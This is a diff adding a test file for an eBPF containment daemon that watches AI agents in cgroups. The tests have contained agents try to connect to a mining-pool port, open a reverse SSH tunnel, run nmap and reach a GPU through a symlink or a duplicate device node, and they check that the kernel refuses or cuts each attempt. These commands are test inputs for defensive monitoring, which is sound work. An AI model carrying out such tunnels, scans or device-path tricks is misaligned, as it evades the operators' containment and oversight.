@@ -1,0 +1,189 @@
+"""Containment on real agents: real processes against real servers in a netns,
+refused or cut by the kernel, recorded, released."""
+
+from __future__ import annotations
+
+import errno
+import os
+import socket
+import subprocess
+import sys
+import time
+import uuid
+
+import pytest
+
+from conftest import REPO, AgentCgroup, make_agent_cgroup, remove_cgroup_tree
+
+CONNECT = """
+import socket, sys
+s = socket.socket(socket.AF_INET6 if ':' in sys.argv[1] else socket.AF_INET)
+s.settimeout(3)
+print(s.connect_ex((sys.argv[1], int(sys.argv[2]))))
+"""
+
+
+def connect_from(cgroup, host: str, port: int) -> int:
+    out = cgroup.run([sys.executable, "-c", CONNECT, host, str(port)], text=True)
+    return int(out.stdout)
+
+
+def test_pool_connect_refused_for_agents_only(containment_daemon, contained_agent, agent_cgroup, stratum_pool):
+    client = str(REPO / "tests/servers/stratum_client.py")
+    before = len(stratum_pool.accepted)
+    out = contained_agent.run([sys.executable, client, stratum_pool.host, str(stratum_pool.port)], text=True)
+    assert out.returncode != 0 and "PermissionError" in out.stderr  # EPERM, before any packet
+    line = containment_daemon.wait_line("Connection refused by policy", contained_agent.name.split("/")[-1])
+    assert "reason=port" in line and f"to={stratum_pool.host}:{stratum_pool.port}" in line
+    time.sleep(0.5)
+    assert len(stratum_pool.accepted) == before  # the pool saw nothing
+    # the same client from a cgroup outside the contained agent root connects
+    out = agent_cgroup.run([sys.executable, client, stratum_pool.host, str(stratum_pool.port)], text=True)
+    assert out.stdout.strip() == "00000000", out.stderr
+    assert len(stratum_pool.accepted) == before + 1
+
+
+def test_loopback_pool_port_stays_open(containment_daemon, contained_agent):
+    # the deny list is for the outside: a local dev server on 4444 is fine
+    with socket.socket() as server:
+        server.bind(("127.0.0.1", 4444))
+        server.listen()
+        assert connect_from(contained_agent, "127.0.0.1", 4444) == 0
+
+
+SSH_OPTS = ["-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "BatchMode=yes",
+            "-o", "ConnectTimeout=3", "-o", "ExitOnForwardFailure=yes"]
+
+
+def reverse_port_open(netns_host, port: int) -> bool:
+    probe = netns_host.popen([sys.executable, "-c", CONNECT, "127.0.0.1", str(port)], stdout=subprocess.PIPE,
+                             text=True)
+    return probe.communicate(timeout=10)[0].strip() == "0"
+
+
+def test_reverse_tunnel_is_cut_before_it_carries_anything(containment_daemon, contained_agent, sshd, netns_host):
+    agent = contained_agent.name
+    out = contained_agent.run(["ssh", "-i", str(sshd), *SSH_OPTS, "-N", "-R", "2222:127.0.0.1:22",
+                               f"root@{netns_host.address}"], text=True, timeout=30)
+    assert out.returncode != 0  # ssh could not reach sshd: cut first
+    assert not reverse_port_open(netns_host, 2222)  # sshd never opened the reverse end: zero bytes crossed
+    containment_daemon.wait_line("CRITICAL", "Reverse SSH tunnel", agent.split("/")[-1])
+    containment_daemon.wait_line("cut_network applied on", agent)
+    record = containment_daemon.containment.store.active_for(agent)
+    assert record.rule == "Reverse SSH tunnel" and record.cut
+    assert record.event["argv"][:3] == ["ssh", "-i", str(sshd)]
+    # cut both ways: nothing but loopback, for every process of the agent
+    assert connect_from(contained_agent, netns_host.address, 22) == errno.EPERM
+    containment_daemon.wait_line("Connection refused by policy", "reason=cut", agent.split("/")[-1])
+    # release (as `ebpfmon quarantine release` does through the socket) restores it
+    from ebpfmon.containment import control
+
+    answer = control.request(containment_daemon.daemon.config.enforce.state_dir,
+                             {"cmd": "release", "agent": agent, "reason": "test over"})
+    assert answer["ok"] and answer["record"]["status"] == "released"
+    assert connect_from(contained_agent, netns_host.address, 22) == 0
+
+
+def test_a_cut_stops_an_established_connection(containment_daemon, contained_agent, netns_host):
+    # an established TCP connection stops carrying data when its agent is cut
+    echo = netns_host.popen([sys.executable, "-c", (
+        "import socket\ns=socket.create_server(('198.51.100.2', 7000))\nprint('up', flush=True)\n"
+        "c,_=s.accept()\nwhile (d := c.recv(100)): c.sendall(d)")], stdout=subprocess.PIPE, text=True)
+    assert echo.stdout.readline().strip() == "up"
+    client = contained_agent.popen([sys.executable, "-u", "-c", (
+        "import socket, sys\nc=socket.create_connection(('198.51.100.2', 7000))\nc.settimeout(2)\n"
+        "for line in sys.stdin:\n"
+        "    try:\n        c.sendall(line.encode()); print(c.recv(100).decode().strip(), flush=True)\n"
+        "    except OSError as e:\n        print('error', e.errno or 'timeout', flush=True)")],
+        stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
+    try:
+        client.stdin.write("one\n")
+        client.stdin.flush()
+        assert client.stdout.readline().strip() == "one"
+        containment_daemon.containment.cut(contained_agent.name, "test", "established connection")
+        client.stdin.write("two\n")
+        client.stdin.flush()
+        assert client.stdout.readline().strip().startswith("error")  # dropped: no echo comes back
+        record = containment_daemon.containment.store.active_for(contained_agent.name)
+        assert any(c["remote"] == "198.51.100.2:7000" and c["state"] == "established" for c in record.connections)
+    finally:
+        client.kill()
+        echo.kill()
+        containment_daemon.containment.release(contained_agent.name, "test", "done")
+
+
+def gpu_open(cgroup, path) -> str:
+    code = ("import os, sys\ntry:\n    os.close(os.open(sys.argv[1], os.O_RDWR)); print('ok')\n"
+            "except OSError as e:\n    print(e.errno)")
+    return cgroup.run([sys.executable, "-c", code, str(path)], text=True).stdout.strip()
+
+
+def test_gpu_refused_by_number_whatever_the_path(containment_daemon, contained_agent, hierarchy, fake_gpu_dir,
+                                                 tmp_path):
+    link = tmp_path / "innocent"
+    link.symlink_to(fake_gpu_dir / "nvidia0")
+    twin = tmp_path / "twin"
+    os.mknod(twin, 0o666 | 0o020000, os.makedev(195, 0))
+    for path in (fake_gpu_dir / "nvidia0", link, twin):
+        assert gpu_open(contained_agent, path) == str(errno.EPERM), path
+    line = containment_daemon.wait_line("GPU refused by policy", contained_agent.name.split("/")[-1])
+    assert "device=195:0" in line and "vendor=nvidia" in line
+    # an entitled agent (gpu-*) reaches the driver: ENXIO, there is none here
+    name = f"{containment_daemon.root}/gpu-{uuid.uuid4().hex[:6]}"
+    entitled = AgentCgroup(name, hierarchy.ensure(name), hierarchy.cgroup_id(name))
+    try:
+        # the kernel's cgroup_mkdir event reaches the daemon, which grants the new agent its GPUs
+        deadline = time.monotonic() + 5
+        while entitled.id not in containment_daemon.daemon.enforcer.gpu_policies() and time.monotonic() < deadline:
+            time.sleep(0.05)
+        assert containment_daemon.daemon.enforcer.gpu_policies()[entitled.id] == (True, None)
+        assert gpu_open(entitled, twin) == str(errno.ENXIO)
+    finally:
+        remove_cgroup_tree(entitled.path)
+
+
+def test_containment_never_touches_root_or_outsiders(containment_daemon, test_root):
+    from ebpfmon.containment.actions import ContainmentRefused
+
+    c = containment_daemon.containment
+    for target, why in (("/", "root cgroup"), (test_root, "not an agent cgroup"),
+                        (containment_daemon.root, "not an agent cgroup"),
+                        (f"{containment_daemon.root}/missing", "does not exist")):
+        with pytest.raises(ContainmentRefused, match=why):
+            c.cut(target, "test", "must be refused")
+    assert c.enforcer.cut_agents() == {}
+
+
+def test_refused_verdicts_become_alerts(containment_daemon, test_root):
+    from ebpfmon.rules.cases import make_event
+    from ebpfmon.rules.engine import Verdict
+
+    event = make_event({"exec": {"argv": ["ssh", "-R", "1:h:2", "x"], "cgroup": f"{test_root}/elsewhere"}}, 0)
+    verdict = Verdict("Reverse SSH tunnel", "CRITICAL", "out", [], ["cut_network"], True, test_root, event)
+    notices = containment_daemon.containment.apply(verdict)
+    assert notices[0].priority == "CRITICAL" and "not an agent cgroup" in notices[0].message
+
+
+def test_rate_limit_stops_a_misfiring_rule(containment_daemon, hierarchy):
+    from ebpfmon.containment.actions import Containment
+    from ebpfmon.rules.cases import make_event
+    from ebpfmon.rules.engine import Verdict
+    import dataclasses
+
+    daemon = containment_daemon.daemon
+    config = dataclasses.replace(daemon.config, enforce=dataclasses.replace(daemon.config.enforce, rate_limit=3))
+    containment = Containment(daemon.enforcer, hierarchy, config, containment_daemon.containment.store)
+    agents = [make_agent_cgroup(hierarchy, containment_daemon.root) for _ in range(5)]
+    try:
+        results = []
+        for agent in agents:
+            event = make_event({"exec": {"argv": ["nmap", "10.0.0.0/24"], "cgroup": agent.name}}, 0)
+            verdict = Verdict("Network scanner started", "ERROR", "scan", [], ["cut_network"], True, agent.name, event)
+            results.append(containment.apply(verdict))
+        assert [bool(daemon.enforcer.cut_agents().get(a.id)) for a in agents] == [True, True, True, False, False]
+        assert "rate limit" in results[3][0].message
+    finally:
+        for agent in agents:
+            if containment.store.active_for(agent.name):
+                containment.release(agent.name, "test", "done")
+            remove_cgroup_tree(agent.path)
